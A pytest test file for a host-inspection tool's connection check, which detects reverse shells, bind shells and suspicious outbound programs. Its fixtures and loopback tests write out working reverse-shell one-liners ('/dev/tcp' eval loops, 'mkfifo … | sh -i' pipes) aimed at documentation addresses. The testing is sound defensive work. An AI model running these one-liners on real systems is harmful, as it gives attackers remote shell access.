"""Connections: grouped and fine on an ordinary server; a shell that somebody types to from afar is found."""

from __future__ import annotations

import os
import socket
import struct
import subprocess
import sys
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest

from hostguardd.host import parse, sockdiag
from hostguardd.host.live import ANONYMOUS, CONNECTED, Connection, Connections, NoLiveHost
from hostguardd.host.nlmsg import Message
from hostguardd.host.proc import ProcHost
from hostguardd.investigate.checks import connections
from hostguardd.investigate.interface import Verdict
from tests.fakelive import FakeLive
from tests.owning import Owning
from tests.scenes import Findings, looked, scene

NULL = b"/dev/null"


def found(live: FakeLive, **options: object) -> Findings:
    return looked(connections.look, scene(live=live, packages=Owning(), **options))  # type: ignore[arg-type]


@pytest.fixture
def live() -> FakeLive:
    """A web server with clients and a database, and somebody who came by ssh."""
    live = FakeLive()
    nginx = live.add_process(b"/usr/sbin/nginx", age=900)
    live.listen("tcp", b"0.0.0.0", 443, nginx)
    for number in range(300):
        live.connect("tcp", 443, b"198.51.100.%d" % (number % 7), 40000 + number, nginx)
    app = live.add_process(b"/opt/app/bin/app", uid=33, age=800)
    live.connect("tcp", 40001, b"192.0.2.9", 5432, app, uid=33)
    sshd = live.add_process(b"/usr/sbin/sshd", age=900)
    live.listen("tcp6", b"::", 22, sshd)
    live.connect("tcp6", 22, b"203.0.113.9", 50412, live.add_process(b"/usr/sbin/sshd", parent=sshd, age=60))
    live.connect("udp", 123, b"192.0.2.123", 123, live.add_process(b"/usr/sbin/chronyd", age=900))
    return live


def test_a_clean_server(live: FakeLive) -> None:
    told = found(live)
    assert {item.verdict for item in told.items} == {Verdict.FINE}
    assert not told.unseen
    assert not told.moments
    web = told.named("inbound tcp 443")
    assert web.details["count"] == 300
    assert len(web.details["peers"]) == 7  # type: ignore[arg-type]
    assert "198.51.100.0 (x43)" in web.says
    ssh = told.named("inbound tcp 22")
    assert "203.0.113.9:50412: pid" in ssh.details["sessions"][0]  # type: ignore[index]
    assert told.named("outbound tcp /opt/app/bin/app (www-data)").details["peers"] == ["192.0.2.9:5432"]
    assert told.named("outbound udp /usr/sbin/chronyd (root)").details["peers"] == ["192.0.2.123:123"]


@pytest.mark.parametrize(("exe", "argv"), [
    (b"/usr/bin/bash", (b"bash", b"-i")),
    (b"/usr/bin/python3.11", (b"python3", b"-c", b"import pty")),
    (b"/usr/bin/perl", (b"perl", b"-e", b"exec")),
])  # fmt: skip
def test_a_reverse_shell(live: FakeLive, exe: bytes, argv: tuple[bytes, ...]) -> None:
    pid = live.add_process(exe, age=30, uid=33, argv=argv)
    inode = live.connect("tcp", 41000, b"203.0.113.66", 4444, pid, uid=33)
    live.come_from(pid, streams=(b"socket:[%d]" % inode,) * 3)
    told = found(live)
    (item,) = [one for one in told.of(Verdict.SUSPICIOUS) if one.name.startswith(f"pid {pid} ")]
    assert "203.0.113.66:4444" in item.says
    assert item.technique == "T1059.004"
    assert told.moments[0].verdict is Verdict.SUSPICIOUS


def test_a_program_on_the_command_line_that_talks_to_others(live: FakeLive) -> None:
    pid = live.add_process(b"/usr/bin/python3.11", age=30, uid=33, argv=(b"python3", b"-c", b"import pty"))
    live.connect("tcp", 41000, b"203.0.113.66", 4444, pid, uid=33)
    (item,) = found(live).of(Verdict.NOTABLE)
    assert "203.0.113.66:4444" in item.says
    assert "its program on the command line" in item.says


def test_a_bind_shell_is_found_though_its_port_waits_for_more(live: FakeLive) -> None:
    pid = live.add_process(b"/usr/bin/bash", age=30)
    inode = live.connect("tcp", 443, b"203.0.113.66", 4444, pid)
    live.come_from(pid, streams=(b"socket:[%d]" % inode, NULL, NULL))
    (item,) = found(live).of(Verdict.SUSPICIOUS)
    assert item.details["inbound"] is True


def test_who_takes_the_port_of_a_server_for_his_own_end_is_no_client_of_it(live: FakeLive) -> None:
    live.connect("tcp6", 22, b"203.0.113.66", 443, live.add_process(b"/dev/shm/x", age=30))
    item = found(live).named("inbound tcp 22")
    assert item.verdict is Verdict.SUSPICIOUS
    assert item.next


def test_a_shell_with_the_journal_s_socket_is_none(live: FakeLive) -> None:
    pid = live.add_process(b"/usr/bin/bash", age=30)
    live.come_from(pid, streams=(NULL, b"socket:[99]", b"socket:[99]"))
    assert not found(live).suspicious


@pytest.mark.parametrize("unit", [b"finger@3-192.0.2.1.service", b"xinetd.service"])
def test_a_script_that_a_super_server_starts_is_worth_a_note(live: FakeLive, unit: bytes) -> None:
    parent = 1 if b"@" in unit else live.add_process(b"/usr/sbin/xinetd", age=100)
    pid = live.add_process(
        b"/usr/bin/bash", parent=parent, age=3, unit=unit, argv=(b"sh", b"/usr/lib/finger")
    )
    inode = live.connect("tcp", 79, b"203.0.113.5", 4444, pid)
    live.come_from(pid, streams=(b"socket:[%d]" % inode,) * 3)
    told = found(live)
    assert not told.suspicious
    assert any(one.name.startswith(f"pid {pid}") for one in told.of(Verdict.NOTABLE))


@pytest.mark.parametrize(("exe", "state", "verdict"), [
    (b"/tmp/.a/agent", "running", Verdict.SUSPICIOUS),
    (b"/memfd:x", ANONYMOUS, Verdict.SUSPICIOUS),
    (b"/usr/bin/gone", "deleted", Verdict.SUSPICIOUS),
    (b"/usr/libexec/agent", "running", Verdict.SUSPICIOUS),
    (b"/opt/agent/agent", "running", Verdict.NOTABLE),  # root's own
    (b"/usr/bin/nc", "running", Verdict.NOTABLE),
])  # fmt: skip
def test_who_goes_out(live: FakeLive, exe: bytes, state: str, verdict: Verdict) -> None:
    live.connect("tcp", 41000, b"203.0.113.66", 443, live.add_process(exe, age=30, state=state))
    item = found(live).named(f"outbound tcp {exe.decode()} (root)")
    assert item.verdict is verdict
    assert item.means
    assert item.next
    assert "203.0.113.66:443" in item.says


@pytest.mark.parametrize(("age", "verdict"), [(600, Verdict.SUSPICIOUS), (2, Verdict.NOTABLE)])
def test_a_shell_that_connects_by_itself(live: FakeLive, age: int, verdict: Verdict) -> None:
    """`</dev/tcp/HOST/PORT` is how scripts see whether a port is open, too; for a moment."""
    code = b"exec 5<>/dev/tcp/203.0.113.66/443; while read -u 5 x; do eval $x; done"
    shell = live.add_process(b"/usr/bin/bash", age=age, argv=(b"bash", b"-c", code))
    live.connect("tcp", 41000, b"203.0.113.66", 443, shell)
    (item,) = found(live).of(verdict)
    assert item.name.startswith("outbound tcp /usr/bin/bash")


def test_a_tool_that_pipes_its_connection_into_a_shell(live: FakeLive) -> None:
    nc = live.add_process(b"/usr/bin/nc", age=30, session=77)
    live.connect("tcp", 41000, b"203.0.113.66", 443, nc)
    shell = live.add_process(b"/usr/bin/sh", age=30, session=77)
    live.come_from(shell, streams=(b"pipe:[5]", b"pipe:[6]", b"pipe:[6]"))
    assert found(live).suspicious == ["outbound tcp /usr/bin/nc (root)"]


def piped(live: FakeLive, argv: tuple[bytes, ...], *streams: bytes, **fields: object) -> int:
    shell = live.add_process(b"/usr/bin/dash", age=30, argv=argv, **fields)  # type: ignore[arg-type]
    live.come_from(shell, streams=(*streams, streams[1]))  # type: ignore[arg-type]
    return shell


@pytest.mark.parametrize("fifo", [b"/tmp/f", b"/dev/shm/f"])
def test_a_shell_behind_a_fifo_and_a_tool_that_is_none(live: FakeLive, fifo: bytes) -> None:
    """`cat f | sh -i | openssl s_client … >f`: two pipes and a file of the kind."""
    live.come_from(live.add_process(b"/usr/bin/cat", age=30), streams=(fifo, b"pipe:[5]", NULL))
    piped(live, (b"sh", b"-i"), b"pipe:[5]", b"pipe:[6]")
    client = live.add_process(b"/usr/bin/openssl", age=30)
    live.come_from(client, streams=(b"pipe:[6]", fifo, NULL))
    live.connect("tcp", 41000, b"127.0.0.1", 443, client)
    item = found(live).named("outbound tcp /usr/bin/openssl (root)")
    assert item.verdict is Verdict.SUSPICIOUS
    assert "an interactive shell without a terminal" in item.says


def test_who_writes_to_the_same_file_as_a_shell_is_not_joined_to_it(live: FakeLive) -> None:
    live.plain.add(b"/var/log/app.log")
    piped(live, (b"sh", b"-i"), b"pipe:[5]", b"/var/log/app.log")
    piped(live, (b"sh", b"-i"), b"/var/log/app.log", NULL)
    server = live.add_process(b"/usr/sbin/nginx", age=30)
    live.come_from(server, streams=(NULL, b"/var/log/app.log", NULL))
    live.connect("tcp", 41000, b"203.0.113.66", 443, server)
    assert max(item.verdict for item in found(live).items) is Verdict.FINE


def test_a_shell_behind_a_pair_of_sockets_of_its_parent(live: FakeLive) -> None:
    agent = live.add_process(b"/usr/bin/python3.11", age=30, argv=(b"python3", b"/opt/agent.py"))
    live.connect("tcp", 41000, b"203.0.113.66", 443, agent)
    live.connect("tcp", 41001, b"203.0.113.66", 443, 1)
    for parent in (agent, 1):
        piped(live, (b"sh", b"-i"), b"socket:[5]", b"socket:[5]", parent=parent)
    (item,) = found(live).of(Verdict.NOTABLE)
    assert item.name.startswith("outbound tcp /usr/bin/python3.11")


@pytest.mark.parametrize("ends", [(b"pipe:[5]", b"pipe:[6]"), (b"socket:[5]", b"socket:[5]")])
def test_a_shell_that_is_given_its_commands_by_its_parent(live: FakeLive, ends: tuple[bytes, bytes]) -> None:
    """Also while it runs one of them."""
    agent = live.add_process(b"/usr/bin/python3.11", age=30, argv=(b"python3", b"/opt/agent.py"))
    live.connect("tcp", 41000, b"203.0.113.66", 443, agent)
    shell = piped(live, (b"bash",), *ends, parent=agent)
    live.come_from(live.add_process(b"/usr/bin/sleep", age=3, parent=shell), streams=(*ends, ends[1]))
    (item,) = found(live).of(Verdict.NOTABLE)
    assert item.name.startswith("outbound tcp /usr/bin/python3.11")
    assert f"pid {shell}, a shell that is given its commands" in item.says


def test_a_shell_behind_a_fifo_that_was_not_told_to_ask(live: FakeLive) -> None:
    piped(live, (b"sh",), b"/tmp/f", b"pipe:[6]")
    client = live.add_process(b"/usr/bin/openssl", age=30)
    live.come_from(client, streams=(b"pipe:[6]", b"/tmp/f", NULL))
    live.connect("tcp", 41000, b"203.0.113.66", 443, client)
    assert "outbound tcp /usr/bin/openssl (root)" in [one.name for one in found(live).of(Verdict.NOTABLE)]


@pytest.mark.parametrize("stdout", [b"pipe:[6]", b"socket:[7]", b"/var/log/x"])
def test_a_download_that_is_piped_into_a_shell_of_a_service(live: FakeLive, stdout: bytes) -> None:
    """Who hears the answers is another one than who gives the commands."""
    service = live.add_process(b"/usr/bin/python3.11", age=30, argv=(b"python3", b"/opt/agent.py"))
    live.come_from(service, streams=(NULL, stdout, NULL))
    live.connect("tcp", 41001, b"203.0.113.7", 443, service)
    client = live.add_process(b"/usr/bin/curl", age=30, parent=service)
    live.come_from(client, streams=(NULL, b"pipe:[5]", NULL))
    live.connect("tcp", 41000, b"203.0.113.66", 443, client)
    piped(live, (b"sh",), b"pipe:[5]", stdout, parent=service)
    assert {item.verdict for item in found(live).items} == {Verdict.FINE}


def test_a_shell_at_a_terminal_whose_output_is_piped(live: FakeLive) -> None:
    piped(live, (b"bash", b"-i"), b"/dev/pts/3", b"pipe:[6]")
    client = live.add_process(b"/usr/bin/openssl", age=30)
    live.come_from(client, streams=(b"pipe:[6]", b"/dev/pts/3", NULL))
    live.connect("tcp", 41000, b"203.0.113.66", 443, client)
    assert {item.verdict for item in found(live).items} == {Verdict.FINE}


@pytest.mark.parametrize(
    ("argv", "stdin"),
    [((b"sh",), b"pipe:[5]"), ((b"bash", b"-i", b"-l", b"-c", b"env"), b"pipe:[5]"),
     ((b"sh", b"-i", b"script"), b"pipe:[5]"), ((b"bash", b"--init"), b"pipe:[5]"),
     ((b"sh", b"-i"), b"/dev/pts/3"), ((b"sh", b"-i"), NULL)],
)  # fmt: skip
def test_ordinary_pipes_into_shells(live: FakeLive, argv: tuple[bytes, ...], stdin: bytes) -> None:
    """`curl … | sh` is for histories and settings to tell; here a program only feeds its shell."""
    client = live.add_process(b"/usr/bin/curl", age=30)
    live.come_from(client, streams=(NULL, b"pipe:[5]", NULL))
    live.connect("tcp", 41000, b"203.0.113.66", 443, client)
    piped(live, argv, stdin, b"/dev/pts/3")
    assert {item.verdict for item in found(live).items} == {Verdict.FINE}


@pytest.mark.parametrize(("exe", "fine"), [(b"/usr/sbin/sshd", True), (b"/opt/sshd", False)])
def test_a_shell_that_came_by_ssh_without_a_terminal(live: FakeLive, exe: bytes, fine: bool) -> None:
    sshd = live.add_process(exe, age=30, uid=33)
    live.connect("tcp6", 22, b"203.0.113.9", 50999, sshd)
    piped(live, (b"sh", b"-i"), b"pipe:[5]", b"pipe:[6]", parent=sshd)
    assert (max(item.verdict for item in found(live).items) is Verdict.FINE) is fine


def test_a_real_shell_behind_a_fifo(tmp_path: Path, running: Callable[..., subprocess.Popen[bytes]]) -> None:
    """Over the loopback of this machine, with a few lines of Python for nc."""
    talk = (
        "import os, socket, sys, threading\n"
        "s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n"
        "work = lambda: [s.send(one) for one in iter(lambda: os.read(0, 99), b'')]\n"
        "threading.Thread(target=work, daemon=True).start()\n"
        "for one in iter(lambda: s.recv(99), b''): os.write(1, one)\n"
    )
    (tmp_path / "talk.py").write_text(talk)
    with socket.socket() as server, closing(ProcHost()) as real:
        server.bind(("127.0.0.1", 0))
        server.listen()
        server.settimeout(20)
        port = server.getsockname()[1]
        line = f"echo x; mkfifo f; cat f | sh -i 2>&1 | {sys.executable} talk.py {port} >f"
        running(["/bin/sh", "-c", f"cd '{tmp_path}'; {line}"])
        peer, _ = server.accept()
        with peer:
            peer.recv(1)  # the prompt
            told = looked(connections.look, scene(live=real))
    assert any("an interactive shell without a terminal" in one.says for one in told.of(Verdict.SUSPICIOUS))


def test_many_connections_are_one_item_and_owners_are_sought_for_some(
    live: FakeLive, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(connections, "MOST_OWNED", 10)
    crawler = live.add_process(b"/usr/bin/wget", age=30, uid=33)
    for number in range(50):
        live.connect("tcp", 41000 + number, b"203.0.113.%d" % number, 443, crawler)
    told = found(live)
    assert told.named("outbound tcp /usr/bin/wget (www-data)").details["count"] == 9
    assert any("42 more" in one.reason for one in told.unseen)


def test_what_cannot_be_seen_is_said(live: FakeLive) -> None:
    live.problems["tcp6"] = "no"
    assert any(one.reason == "no" for one in found(live).unseen)
    live.hidden = 5
    assert any("this account" in one.reason for one in found(live, uid=1000).unseen)


def test_a_real_reverse_shell(running: Callable[..., subprocess.Popen[bytes]]) -> None:
    """Over the loopback of this machine: bash, to which a listener of ours types."""
    with socket.socket() as server, closing(ProcHost()) as real:
        server.bind(("127.0.0.1", 0))
        server.listen()
        server.settimeout(20)  # a namespace whose loopback is down lets nobody come
        port = server.getsockname()[1]
        line = f"exec 3<>/dev/tcp/127.0.0.1/{port}; echo x; exec bash -i <&3 >&3 2>&3"
        process = running(["/bin/bash", "-c", line])
        peer, _ = server.accept()
        with peer:
            peer.recv(1)  # the prompt: by now it is the shell
            told = looked(connections.look, scene(live=real))
            (item,) = [one for one in told.items if one.name.startswith(f"pid {process.pid} ")]
    assert item.verdict is Verdict.SUSPICIOUS
    assert item.details["peer"] == f"127.0.0.1:{port}"


@pytest.mark.parametrize("netlink", [True, False])
def test_the_kernel_s_tables_of_connections(netlink: bool) -> None:
    with socket.socket() as server, socket.socket() as client, closing(ProcHost(netlink=netlink)) as real:
        server.bind(("127.0.0.1", 0))
        server.listen()
        client.connect(server.getsockname())
        ours = client.getsockname(), client.getpeername()
        told = [one for one in real.connections("tcp").found if one.port == ours[0][1]]
    ((one,)) = told
    assert (one.address, one.port) == (ours[0][0].encode(), ours[0][1])
    assert (one.peer, one.peer_port) == (ours[1][0].encode(), ours[1][1])
    assert one.inode
    assert one.uid == os.getuid()


def test_packed_connections_are_a_sequence() -> None:
    def body(port: int, inode: int) -> bytes:
        mapped = bytes(10) + b"\xff\xff" + bytes([192, 0, 2, 1])
        ident = struct.pack("!HH16s16s", port, 443, mapped, socket.inet_pton(socket.AF_INET6, "2001:db8::1"))
        return bytes(4) + ident + bytes(24) + struct.pack("=II", 1000, inode)

    packed = sockdiag.Packed(socket.AF_INET6)
    kind = sockdiag.SOCK_DIAG_BY_FAMILY
    packed.add(
        [
            Message(kind, body(1, 10)),
            Message(kind, b"short"),
            Message(3, body(9, 9)),
            Message(kind, body(2, 20)),
        ]
    )
    assert len(packed) == 2
    assert packed[-1] == packed[1]
    assert packed[0] == Connection(b"192.0.2.1", 1, b"2001:db8::1", 443, 1000, 10)
    assert [one.inode for one in packed] == [10, 20] == [one.inode for one in packed[:]]
    with pytest.raises(IndexError):
        packed[2]


def test_connections_of_the_text_tables() -> None:
    text = (
        b"  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
        b"   0: 0100007F:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 11 1\n"
        b"   1: 0100007F:0016 0200007F:C4F0 01 00000000:00000000 00:00000000 00000000  1000        0 12 1\n"
        b"   2: 0100007F:0017 0200007F:C4F0 06 00000000:00000000 00:00000000 00000000     0        0 0 1\n"
        b"garbage\n"
    )
    assert parse.connections(text) == [Connection(b"127.0.0.1", 22, b"127.0.0.2", 50416, 1000, 12)]


def test_an_image_has_none() -> None:
    assert NoLiveHost().connections(CONNECTED[0]) == Connections((), NoLiveHost.blind)
    assert NoLiveHost().origin(1) is None
    assert not NoLiveHost().is_joint(1, 0)


def test_what_joins_processes(tmp_path: Path) -> None:
    fifo, plain = tmp_path / "fifo", tmp_path / "plain"
    os.mkfifo(fifo)
    plain.touch()
    files = [os.open(path, os.O_RDWR) for path in (fifo, plain)]
    fifo.unlink()
    pair = socket.socketpair()
    with closing(ProcHost()) as real, pair[0], pair[1]:
        try:
            joints = [real.is_joint(os.getpid(), one) for one in (*files, pair[0].fileno())]
        finally:
            for one in files:
                os.close(one)
        assert joints == [True, False, True]
        assert not real.is_joint(os.getpid(), files[0])


def test_whence_a_process_came() -> None:
    with closing(ProcHost()) as real:
        child = subprocess.Popen(
            [sys.executable, "-c", "print(1, flush=True); input()"],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            env={"A": "1", "SSH_CONNECTION": "203.0.113.9 1 192.0.2.1 22", "SUDO_UID": "7"},
        )  # fmt: skip
        try:
            assert child.stdout is not None
            assert child.stdout.read(1)
            origin = real.origin(child.pid)
        finally:
            child.communicate(b"\n")
        assert origin is not None
        assert origin.client.startswith(b"203.0.113.9 ")
        assert (origin.real, origin.leave) == (os.getuid(), b"SUDO_UID=7")
        assert origin.streams[0].startswith(b"pipe:[")
        assert real.origin(child.pid) is None
    assert parse.recorded(b"4294967295") is None
    assert parse.recorded(b"1000\n") == 1000
    assert parse.variable(b"XA=2\0A=1", b"A") == b"1"
    assert parse.variable(b"", b"A") == b""
